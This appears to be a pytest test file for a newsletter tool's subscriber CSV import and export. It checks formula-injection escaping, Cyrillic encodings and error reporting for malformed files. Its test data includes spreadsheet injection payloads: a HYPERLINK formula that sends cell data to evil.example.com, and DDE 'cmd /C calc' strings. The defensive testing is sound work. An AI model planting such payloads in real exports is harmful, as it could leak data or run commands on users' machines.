"""Subscriber CSV files as an attacker or a Windows spreadsheet makes them.

Formula injection through names from the public sign-up form, files in Windows-1251 and
UTF-16, broken and hostile files: every data row is imported or reported at the line a
person sees in an editor, and a file that cannot be read as a whole changes nothing.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import cli, project

from newsletter.audience import csvfile
from newsletter.audience.csvfile import FORMULA_START, MAX_ROW_CHARS, escape_cell, unescape_cell
from newsletter.audience.subscribers import ImportReport, export_csv, import_csv, sync_lists
from newsletter.config import Settings
from newsletter.errors import ConfigError, SubscriberError
from newsletter.models import NewSubscriber, SubscriberStatus
from newsletter.store import Store
from newsletter.textclean import clean_subscriber

NOW = datetime(2026, 11, 28, 9, 0, tzinfo=UTC)
HEADER = "email,name,locale,organisation,country,lists,tags,status,consent_at,consent_source"
FIRST = ["Ивелина", "Борислав", "Радостина", "Светлозар", "Десислава", "Калоян", "Мирела"]
LAST = ["Драганова", "Стоянов", "Кирилова", "Маринов", "Тодорова", "Гешев"]
ATTACKS = [
    '=HYPERLINK("https://evil.example.com/?d="&A2,"Кликнете")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(1+1)",
    "'=1+1",
    "''",
    "'",
    'Ана";=1+1',
    "Ана,=1+1",
    "Ана\n=1+1",
    ' "=1+1',
    "Ана;-2+3",
]
# characters after which a spreadsheet may start a cell, and what it skips before deciding
BREAKS = re.compile(r"\r\n|[,;\t\r\n]")
LEADING = '" \u00a0\u3000'


def imp(store: Store, path: Path, encoding: str | None = None) -> ImportReport:
    return import_csv(store, path, list_name=None, default_locale="bg", now=NOW, encoding=encoding)


def person(i: int) -> str:
    return f"{FIRST[i % len(FIRST)]} {LAST[i % len(LAST)]}"


def rows_cp1251(n: int, bad: int) -> list[str]:
    """``n`` data rows with Cyrillic names; row ``bad`` (0-based) has a broken address."""
    rows = []
    for i in range(n):
        email = f"chlen{i:03d}-at-example.org" if i == bad else f"chlen{i:03d}@example.org"
        rows.append(f"{email},{person(i)},bg,„Слънчев бряг Енерджи“ ООД,BG,members,,active,,")
    return rows


def assert_no_formula_anywhere(text: str) -> None:
    """No cell starts a formula, whatever delimiter a spreadsheet picks, quotes or not."""
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in row:
                assert cell.lstrip(LEADING)[:1] not in FORMULA_START, (delimiter, cell)
    # a reader that ignores quoting altogether
    for piece in BREAKS.split(text):
        assert piece.lstrip(LEADING)[:1] not in FORMULA_START, piece


# -- formula injection ------------------------------------------------------------------


def test_export_never_writes_a_cell_a_spreadsheet_would_run(store: Store) -> None:
    for i, attack in enumerate(ATTACKS):
        store.subscribers.add(
            NewSubscriber(
                email=f"{'=-+'[i % 3]}signup{i}@example.org",
                name=attack,
                locale="bg",
                organisation=attack,
                lists=("news", "-2+3"),
                tags=("@SUM(1)",),
                consent_source=attack,
            ),
            NOW,
        )
    buf = io.StringIO()
    assert export_csv(store.subscribers.iter(), buf) == len(ATTACKS)
    assert_no_formula_anywhere(buf.getvalue())


CELL_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from(sorted(FORMULA_START | set("'\", ;\n\u00a0\u3000"))),
        st.characters(blacklist_categories=("Cs",)),
    ),
    max_size=30,
)


@given(st.one_of(CELL_TEXT, st.sampled_from(ATTACKS)))
@settings(max_examples=400)
def test_cell_escaping_is_undone_exactly_and_hides_every_formula(value: str) -> None:
    escaped = escape_cell(value)
    assert unescape_cell(escaped) == value
    buf = io.StringIO()
    csv.writer(buf).writerow([escaped])
    assert_no_formula_anywhere(buf.getvalue())


NAME_PART = st.one_of(
    st.sampled_from([*ATTACKS, "'", '"', ",", ";", "\n", "\r\n", "Ана", "Петрова", "Ωμέγα"]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=4),
)
NAME = st.lists(NAME_PART, max_size=6).map("".join).map(str.strip).filter(lambda s: len(s) < 300)
TOKEN = (
    st.text(
        st.one_of(st.sampled_from(sorted(FORMULA_START | {"'", '"'})), st.sampled_from("абвxyz")),
        min_size=1,
        max_size=6,
    )
    .map(str.strip)
    .filter(bool)
)
SUBSCRIBER = st.builds(
    lambda prefix, name, org, source, lists, tags, status, consent: NewSubscriber(
        email=f"{prefix}@example.org",
        name=name,
        locale="bg",
        organisation=org,
        country="BG",
        lists=tuple(lists),
        tags=tuple(tags),
        status=status,
        consent_at=NOW if consent else None,
        consent_source=source,
    ),
    st.sampled_from(["", "=", "+", "-", "'", "=1+2-", "+'"]),
    NAME,
    NAME,
    NAME,
    st.lists(TOKEN, max_size=3),
    st.lists(TOKEN, max_size=3),
    st.sampled_from(list(SubscriberStatus)),
    st.booleans(),
)


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(people=st.lists(SUBSCRIBER, min_size=1, max_size=4))
def test_export_then_import_gives_the_same_subscribers(
    store: Store, tmp_path: Path, people: list[NewSubscriber]
) -> None:
    # one source store and one target for every example: unique addresses and a list per
    # example keep the examples apart
    counter = next(_COUNTER)
    batch = f"batch{counter}"
    # what a store can hold: every way in (import, sign-up, add) cleans controls first
    originals = [
        store.subscribers.add(
            replace(
                p,
                email=p.email.replace("@", f"m{counter}x{n}@"),
                lists=(batch, *p.lists),
            ),
            NOW,
        )
        for n, p in enumerate(map(clean_subscriber, people))
    ]
    path = tmp_path / f"export{counter}.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        export_csv(store.subscribers.iter(list_name=batch), fh)
    assert_no_formula_anywhere(path.read_text(encoding="utf-8"))
    target = _target(tmp_path)
    report = imp(target, path)
    assert (report.added, report.errors) == (len(originals), [])
    for sub in originals:
        back = target.subscribers.find(sub.email)
        assert back is not None
        assert replace(back, id=sub.id) == sub


_COUNTER = itertools.count()
_TARGETS: dict[Path, Store] = {}


def _target(tmp_path: Path) -> Store:
    if tmp_path not in _TARGETS:
        _TARGETS[tmp_path] = Store.open(f"sqlite:///{tmp_path / 'target.db'}")
    return _TARGETS[tmp_path]


@pytest.fixture(autouse=True)
def _close_targets() -> Iterator[None]:
    yield
    while _TARGETS:
        _TARGETS.popitem()[1].close()


# -- encodings --------------------------------------------------------------------------


def test_cp1251_file_with_one_bad_row_imports_the_other_350(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "членове.csv"
    path.write_bytes(("\r\n".join([HEADER, *rows_cp1251(351, bad=175)]) + "\r\n").encode("cp1251"))
    report = imp(store, path, encoding="cp1251")
    assert report.added == 350
    assert [e.line for e in report.errors] == [177]  # header on line 1, data row 176
    assert "chlen175-at-example.org" in report.errors[0].reason
    assert report.rows == 351
    last = store.subscribers.find("chlen350@example.org")
    assert last is not None and last.name == person(350)
    assert last.organisation == "„Слънчев бряг Енерджи“ ООД"


def test_cp1251_file_read_as_utf8_is_one_line_naming_line_and_byte(
    store: Store, tmp_path: Path
) -> None:
    # the shape that once imported 185 rows: Latin names, then one row saved by Excel in
    # Windows-1251 in the middle
    rows = [f"guest{i:03d}@example.org,Guest {i},en,,,,,active,," for i in range(351)]
    rows[175] = f"guest175@example.org,{person(175)},bg,,,,,active,,"
    data = ("\n".join([HEADER, *rows]) + "\n").encode("cp1251")
    path = tmp_path / "guests.csv"
    path.write_bytes(data)
    offset = data.index(person(175).encode("cp1251"))
    with pytest.raises(SubscriberError) as caught:
        imp(store, path)
    message = str(caught.value)
    assert message == (
        f"{path}: line 177, byte offset {offset}: not valid UTF-8 (byte 0x"
        f"{data[offset]:02x}); if the file is in another encoding, give it, e.g. "
        "--encoding cp1251"
    )
    assert list(store.subscribers.iter()) == []  # nothing half-imported
    assert imp(store, path, encoding="cp1251").added == 351


def test_byte_undefined_in_cp1251_fails_only_its_row(store: Store, tmp_path: Path) -> None:
    rows = [r.encode("cp1251") for r in rows_cp1251(351, bad=-1)]
    rows[200] = rows[200].replace(b",bg,", b",bg \x98,")  # 0x98 means nothing in cp1251
    data = HEADER.encode() + b"\n" + b"\n".join(rows) + b"\n"
    path = tmp_path / "members.csv"
    path.write_bytes(data)
    report = imp(store, path, encoding="cp1251")
    assert report.added == 350 and report.rows == 351
    [error] = report.errors
    assert error.line == 202
    offset = data.index(b"\x98")
    assert f"0x98 at byte offset {offset}" in error.reason
    assert "cp1251" in error.reason


@pytest.mark.parametrize("given", ["utf-8", "utf-8-sig"])
def test_invalid_byte_in_a_file_said_to_be_utf8_is_its_row_at_its_offset(
    store: Store, tmp_path: Path, given: str
) -> None:
    data = "email,name\nana@example.org,Ана\n".encode() + b"bad@example.org,\xff\xfe\n"
    data += "eva@example.org,Ева\n".encode()
    path = tmp_path / "people.csv"
    path.write_bytes(data)
    report = imp(store, path, encoding=given)
    assert report.added == 2
    [error] = report.errors
    offset = data.index(b"\xff")
    assert error.line == 3 and f"0xff at byte offset {offset} " in error.reason


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be", "utf-8-sig", "utf-32"])
def test_unicode_files_with_a_byte_order_mark(store: Store, tmp_path: Path, codec: str) -> None:
    text = "\r\n".join([HEADER, *rows_cp1251(20, bad=9)]) + "\r\n"
    data = text.encode(codec)
    if codec == "utf-16-be":
        data = b"\xfe\xff" + data
    path = tmp_path / f"{codec}.csv"
    path.write_bytes(data)
    report = imp(store, path)
    assert (report.added, [e.line for e in report.errors]) == (19, [11])
    first = store.subscribers.find("chlen000@example.org")
    assert first is not None and first.name == person(0)


def test_utf16_without_a_mark_is_one_line_not_a_traceback(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes(f"{HEADER}\nana@example.org\n".encode("utf-16-le"))
    with pytest.raises(SubscriberError, match=r"line 1: .*NUL.*UTF-16.*encoding"):
        imp(store, path)


def test_an_encoding_against_the_byte_order_mark_or_unknown_is_refused(
    store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "people.csv"
    path.write_bytes(f"{HEADER}\nana@example.org\n".encode("utf-16"))
    with pytest.raises(SubscriberError, match=r"UTF-16-LE byte order mark.*cp1251"):
        imp(store, path, encoding="cp1251")
    assert imp(store, path, encoding="utf-16").added == 1
    with pytest.raises(SubscriberError, match="unknown text encoding 'zlib'"):
        imp(store, path, encoding="zlib")


# -- line numbers and hostile files -----------------------------------------------------


def test_reports_name_physical_lines_past_bom_blank_lines_and_multiline_cells(
    store: Store, tmp_path: Path
) -> None:
    body = (
        "\ufeff\r\n"  # BOM, then a blank line before the header
        f"{HEADER}\r\n"
        'ana@example.org,"Ана\r\nПетрова",bg,"ул. „Цар Симеон“ 12\nВарна\r9000",BG,,,,,\r\n'
        "\r\n"
        "broken-one,Х,bg,,,,,,,\r\n"  # line 8
        ",,,,,,,,,\r\n"  # an empty spreadsheet row: not data
        'boris@example.org,"Борис\n\n\nСтоянов",bg,,,,,,,\n'
        "broken-two,Y,bg,,,,,,,\r"  # line 14, ended by a lone CR
        "eva@example.org,Ева,bg,,,,,,,"  # no line break at the end
    )
    path = tmp_path / "people.csv"
    path.write_bytes(body.encode("utf-8"))
    report = imp(store, path)
    assert [e.line for e in report.errors] == [8, 14]
    assert (report.added, report.rows) == (3, 5)
    ana = store.subscribers.find("ana@example.org")
    # a line break inside a name is folded to a space (newsletter.textclean)
    assert ana is not None and ana.name == "Ана Петрова"
    assert ana.organisation == "ул. „Цар Симеон“ 12 Варна 9000"


def _stored(store: Store) -> list[tuple[str, str, tuple[str, ...]]]:
    return [(s.email, s.name, s.lists) for s in store.subscribers.iter()]


FILE_ERRORS: dict[str, tuple[bytes, str]] = {
    "empty": (b"", r"the file is empty"),
    "only a BOM and blank lines": (b"\xef\xbb\xbf\n\r\n", r"the file is empty"),
    "not CSV at all": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", r"line 1, byte offset 0: not valid"),
    "prose": ("Уважаеми членове,\nмоля вижте приложението.\n".encode(), r"line 1: .*email"),
    "duplicated header": (b"email,name,name\nx@example.org,a,b\n", r"line 1: .*'name' appears"),
    "unknown column": (b"email,phone\nx@example.org,1\n", r"line 1: unknown column.*phone"),
    "nameless column": (b"email,,name\nx@example.org,,a\n", r"line 1: column 2 .*no name"),
    "NUL in header": (b"email,na\x00me\nx@example.org,a\n", r"line 1: .*NUL"),
    "header after blank lines": (b"\n\n\nname\nx\n", r"line 4: .*'email'"),
    "overlong header": (b"email," + b"n" * (MAX_ROW_CHARS + 1) + b"\n", r"line 1: .*longer"),
    "thousands of columns": (
        ",".join(["email", *(f"c{i}" for i in range(9000))]).encode(),
        r"line 1: unknown column\(s\) c0, c1, c10, c100, c1000 and 8995 more; expected",
    ),
}


@pytest.mark.parametrize("case", list(FILE_ERRORS))
def test_a_file_that_cannot_be_read_is_one_line_and_changes_nothing(
    store: Store, tmp_path: Path, case: str
) -> None:
    store.subscribers.add(NewSubscriber(email="kept@example.org", name="Калина"), NOW)
    before = _stored(store)
    data, pattern = FILE_ERRORS[case]
    path = tmp_path / "hostile.csv"
    path.write_bytes(data)
    with pytest.raises(SubscriberError) as caught:
        imp(store, path)
    message = str(caught.value)
    assert "\n" not in message and message.startswith(f"{path}: ")
    assert re.search(pattern, message), message
    assert _stored(store) == before


ROW_ERRORS: dict[str, tuple[str, str]] = {
    "NUL in a cell": ("nul@example.org,Ни\x00кола,bg", "NUL"),
    "overlong name": ("long@example.org," + "Я" * 301 + ",bg", "name has 301 characters"),
    "overlong locale": ("loc@example.org,Ана,bg_BG_" + "x" * 40, "locale has 46 characters"),
    "overlong line": ("wide@example.org," + "x" * (MAX_ROW_CHARS + 10) + ",bg", "longer than"),
    "shifted columns": ("shift@example.org,Петров, Иван,bg", "4 cells but the header has 3"),
    "text after a quote": ('quote@example.org,"Ана"Петрова,bg', "not valid CSV"),
}


@pytest.mark.parametrize("case", list(ROW_ERRORS))
def test_a_hostile_row_is_reported_at_its_line_and_the_rest_imported(
    store: Store, tmp_path: Path, case: str
) -> None:
    store.subscribers.add(NewSubscriber(email="kept@example.org", name="Калина"), NOW)
    before = _stored(store)
    row, reason = ROW_ERRORS[case]
    path = tmp_path / "hostile.csv"
    path.write_text(
        f"email,name,locale\nfirst@example.org,Първа,bg\n{row}\nlast@example.org,Последна,bg\n",
        encoding="utf-8",
        newline="",
    )
    report = imp(store, path)
    assert [(e.line, reason in e.reason) for e in report.errors] == [(3, True)], report.errors
    assert (report.added, report.rows) == (2, 3)
    assert set(_stored(store)) >= set(before)
    assert store.subscribers.find("last@example.org") is not None


def test_a_directory_or_an_endless_file_is_one_line(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(SubscriberError, match=r": cannot read: Is a directory$"):
        imp(store, tmp_path)
    monkeypatch.setattr(csvfile, "MAX_FILE_BYTES", 1000)
    with pytest.raises(SubscriberError, match=r"/dev/zero: larger than 1000 bytes$"):
        imp(store, Path("/dev/zero"))


def test_unclosed_quote_reports_the_lines_it_swallowed(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text(
        'email,name\nfirst@example.org,Първа\nopen@example.org,"Ана\nx@example.org,X\n',
        encoding="utf-8",
    )
    report = imp(store, path)
    assert report.added == 1
    [error] = report.errors
    assert error.line == 3 and "never closed" in error.reason and "lines 3-4" in error.reason


def test_header_only_file_imports_nothing_without_error(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "people.csv"
    path.write_text(HEADER + "\r\n\r\n", encoding="utf-8")
    report = imp(store, path)
    assert (report.rows, report.errors) == (0, [])


# -- list files synced before a digest --------------------------------------------------


def test_list_file_sync_uses_the_list_encoding(
    store: Store, tmp_path: Path, make_config: Callable[..., Settings]
) -> None:
    path = tmp_path / "членове.csv"
    path.write_bytes(("\n".join([HEADER, *rows_cp1251(5, bad=-1)]) + "\n").encode("cp1251"))
    plain = make_config(lists=[{"name": "members", "file": str(path)}])
    with pytest.raises(SubscriberError, match=r"line 2, .*encoding = \"cp1251\" in the list"):
        sync_lists(plain, store, NOW)
    assert list(store.subscribers.iter()) == []
    marked = make_config(lists=[{"name": "members", "file": str(path), "encoding": "cp1251"}])
    assert sync_lists(marked, store, NOW)["members"].added == 5
    with pytest.raises(ConfigError, match="unknown text encoding"):
        make_config(lists=[{"name": "members", "file": str(path), "encoding": "klingon"}])


# -- the command line -------------------------------------------------------------------


def test_cli_import_names_the_encoding_and_export_escapes_formulas(tmp_path: Path) -> None:
    cfg = project(tmp_path)
    path = tmp_path / "членове.csv"
    data = ("\r\n".join([HEADER, *rows_cp1251(351, bad=175)]) + "\r\n").encode("cp1251")
    path.write_bytes(data)
    refused = cli(cfg, "subscribers", "import", str(path))
    assert refused.returncode == 1
    [line] = refused.stderr.strip().splitlines()
    assert line.startswith(f"error: {path}: line 2, byte offset ")
    assert line.endswith("--encoding cp1251") and "Traceback" not in refused.stderr
    out = tmp_path / "export.csv"
    assert cli(cfg, "subscribers", "export", "--out", str(out)).returncode == 0
    assert "chlen" not in out.read_text(encoding="utf-8")  # nothing half-imported

    assert cli(cfg, "subscribers", "import", str(path), "--encoding", "klingon").returncode == 2
    done = cli(cfg, "subscribers", "import", str(path), "--encoding", "cp1251", "--list", "x")
    assert done.returncode == 1  # one bad row
    assert "351 row(s): 350 added" in done.stdout
    [bad] = done.stderr.strip().splitlines()
    assert bad.startswith(f"{path}: line 177: ") and "chlen175-at-example.org" in bad

    attack = '=HYPERLINK("https://evil.example.com/?"&A1,"Вижте")'
    added = cli(
        cfg, "subscribers", "add", "--name", attack, "--list", "x", "--", "-2+3@example.org"
    )
    assert added.returncode == 0, added.stderr
    assert cli(cfg, "subscribers", "export", "--list", "x", "--out", str(out)).returncode == 0
    text = out.read_text(encoding="utf-8")
    assert_no_formula_anywhere(text)
    assert "'=HYPERLINK" in text and "'-2+3@example.org" in text
    again = cli(cfg, "subscribers", "import", str(out))
    assert again.returncode == 0, again.stderr
    assert "351 row(s): 0 added, 0 updated, 351 unchanged" in again.stdout
